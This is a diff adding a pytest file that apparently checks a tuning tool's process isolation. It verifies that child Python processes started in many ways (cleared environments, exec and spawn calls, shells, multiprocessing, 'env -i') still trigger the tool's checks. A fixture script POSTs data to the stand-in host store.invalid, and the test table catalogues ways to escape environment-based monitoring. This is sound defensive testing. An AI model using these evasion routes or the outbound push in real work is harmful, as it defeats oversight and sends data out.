@@ -1,0 +1,152 @@
+"""Python programs that the script starts check themselves, whatever environment it gives them, or tuning ends first.
+
+Real processes, as in a tuning attempt: a script under a plan, its children, and the launcher's socket. The other
+machine is store.invalid.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import threading
+import venv
+from multiprocessing.connection import Client, Listener
+from pathlib import Path
+
+import pytest
+
+from autoddp.isolation import Level
+from autoddp.isolation.children import INJECT
+from autoddp.isolation.plan import VARIABLE, IsolationPlan
+from autoddp.wire import StopTuning, decode
+
+PUSH = "from urllib.request import urlopen\nurlopen('http://store.invalid/x', b'data')\n"
+SENDS = "http.client sends POST to store.invalid"
+ALONE = "would run without autoddp's checks"
+
+UPLOADS = {
+    "another PYTHONPATH": ("subprocess.run([sys.executable, 'push.py'], env={**os.environ, 'PYTHONPATH': '.'})", SENDS),
+    "no environment": ("subprocess.run([sys.executable, 'push.py'], env={})", SENDS),
+    "found on PATH": ("subprocess.run(['python', '-m', 'push'], env={'PATH': os.environ['PATH']})", SENDS),
+    "below a shell": ("subprocess.run('python push.py', shell=True, env={'PATH': os.environ['PATH']})", SENDS),
+    "below a shell script": ("subprocess.run(['sh', 'run.sh'], env={'PATH': os.environ['PATH']})", SENDS),
+    "execve": ("os.execve(sys.executable, [sys.executable, 'push.py'], {})", SENDS),
+    "execv": ("os.environ.clear(); os.execv(sys.executable, [sys.executable, 'push.py'])", SENDS),
+    "execle": ("os.execle(sys.executable, sys.executable, 'push.py', {})", SENDS),
+    "spawnve": ("os.spawnve(os.P_WAIT, sys.executable, [sys.executable, 'push.py'], {})", SENDS),
+    "posix_spawn": (
+        "os.waitpid(os.posix_spawn(sys.executable, [sys.executable, 'push.py'], {}), 0)", SENDS,
+    ),
+    "posix_spawnp": (
+        "os.waitpid(os.posix_spawnp('python', ['python', 'push.py'], {'PATH': os.environ['PATH']}), 0)", SENDS,
+    ),
+    "without closing": ("subprocess.run([sys.executable, 'push.py'], env={}, close_fds=False)", SENDS),
+    "system": ("os.environ['PYTHONPATH'] = '.'; os.system('python push.py')", SENDS),
+    "multiprocessing": (
+        "import multiprocessing as m, runpy; os.environ.clear()\n"
+        "p = m.get_context('spawn').Process(target=runpy.run_path, args=('push.py',)); p.start(); p.join()",
+        SENDS,
+    ),
+    "isolated": ("subprocess.run([sys.executable, '-I', 'push.py'])", f"-I push.py {ALONE}"),
+    "env -i": ("os.system('env -i python push.py')", f"python push.py {ALONE}"),
+}  # fmt: skip
+"""Code, and how the reason must read. In a real attempt the first message ends it."""
+
+
+class Launcher:
+    """The launcher's end of the socket. It hears why tuning must end, and answers by closing the connection."""
+
+    def __init__(self, socket: str) -> None:
+        self.reasons: list[str] = []
+        self._listener = Listener(socket, family="AF_UNIX")
+        self._thread = threading.Thread(target=self._listen)
+        self._thread.start()
+
+    def _listen(self) -> None:
+        while True:
+            with self._listener.accept() as connection:
+                text = connection.recv_bytes()
+            if not text:
+                return
+            said = decode(text)
+            assert isinstance(said, StopTuning)
+            self.reasons.append(said.reason)
+
+    def leave(self) -> None:
+        with Client(self._listener.address, family="AF_UNIX") as client:
+            client.send_bytes(b"")
+        self._thread.join()
+        self._listener.close()
+
+
+def ended(tmp_path: Path, code: str, level: Level = Level.OFF) -> tuple[str, str]:
+    """The first reason why the launcher is asked to end tuning, or "", and what was printed."""
+    tree, temporary = tmp_path / "tree", tmp_path / "t"
+    tree.mkdir()
+    temporary.mkdir()
+    (tree / "push.py").write_text(PUSH)
+    (tree / "run.sh").write_text("python push.py\n")
+    body = "".join(f"    {line}\n" for line in code.splitlines())
+    (tree / "script.py").write_text(f"import os, subprocess, sys\nif __name__ == '__main__':\n{body}")
+    plan = IsolationPlan(level, str(tmp_path / "s"), str(tmp_path / "scratch"), (str(temporary),))
+    variables = {
+        VARIABLE: plan.text(),
+        "PYTHONPATH": INJECT,
+        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
+        "TMPDIR": str(temporary),
+    }
+    launcher = Launcher(plan.socket)
+    try:
+        done = subprocess.run(
+            [sys.executable, "script.py"],
+            cwd=tree,
+            env={**os.environ, **variables},
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+            timeout=60,
+        )
+    finally:
+        launcher.leave()
+    return next(iter(launcher.reasons), ""), done.stdout
+
+
+@pytest.mark.parametrize("name", UPLOADS)
+def test_an_upload_of_a_child_ends_tuning(tmp_path: Path, name: str) -> None:
+    code, reason = UPLOADS[name]
+    said, printed = ended(tmp_path, code)
+    assert reason in said, printed
+
+
+def test_under_the_guard_too(tmp_path: Path) -> None:
+    said, printed = ended(tmp_path, UPLOADS["found on PATH"][0], Level.GUARD)
+    assert SENDS in said, printed
+
+
+PASSES = """
+same = {**os.environ, "PYTHONPATH": "."}
+say = "import os; print(os.environ['PYTHONPATH'].partition(os.pathsep)[2])"
+print(subprocess.check_output([sys.executable, "-c", say], env=same, text=True).strip())
+subprocess.check_call([sys.executable, "-I", "--version"])
+os.system("PYTHONPATH=.:$PYTHONPATH python -c 'print(1)'")
+assert os.execve in os.supports_fd
+try:
+    os.execve(sys.executable, [sys.executable, "-c", "print(2)"], 3)
+except TypeError:
+    print("as without autoddp")
+"""
+
+
+def test_what_a_child_sees(tmp_path: Path) -> None:
+    said, printed = ended(tmp_path, PASSES)
+    assert said == "", printed
+    assert [line for line in printed.splitlines() if "Python 3" not in line] == [".", "1", "as without autoddp"]
+
+
+def test_another_python_ends_tuning_with_a_word(tmp_path: Path) -> None:
+    """It lacks the packages that autoddp needs."""
+    venv.create(tmp_path / "venv", with_pip=False)
+    said, printed = ended(tmp_path, f"subprocess.check_call(['{tmp_path}/venv/bin/python', '-c', 'print(1)'])")
+    assert said.startswith(f"the script starts {tmp_path}/venv/bin/python, where autoddp cannot run: "), printed
+    assert "wrapt" in said
